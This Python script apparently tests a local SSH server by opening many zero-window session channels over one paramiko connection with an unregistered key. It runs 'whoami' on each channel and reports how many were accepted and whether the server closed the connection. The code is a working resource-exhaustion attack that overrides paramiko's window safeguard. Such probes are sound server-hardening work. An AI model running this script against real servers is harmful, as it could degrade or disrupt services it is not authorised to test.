"""Opens session channels with an initial window of 0 from one connection and runs
`exec` on each, as an unregistered key; prints how many channels the server accepted
and whether it closed the connection. Usage: zero_window.py PORT KEYFILE COUNT"""
import sys
import time

import paramiko
import paramiko.transport

# The attack needs a window of 0, below what paramiko allows by default.
paramiko.transport.MIN_WINDOW_SIZE = 0

port, keyfile, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
key = paramiko.Ed25519Key.from_private_key_file(keyfile)
transport = paramiko.Transport(("127.0.0.1", port))
transport.start_client(timeout=10)
transport.auth_publickey("basphere", key)
accepted = 0
for _ in range(count):
    try:
        channel = transport.open_session(window_size=0, timeout=5)
        channel.exec_command("whoami")
        accepted += 1
    except Exception:
        break
deadline = time.time() + 10
while transport.is_active() and time.time() < deadline:
    time.sleep(0.1)
print(f"accepted={accepted} closed={not transport.is_active()}")
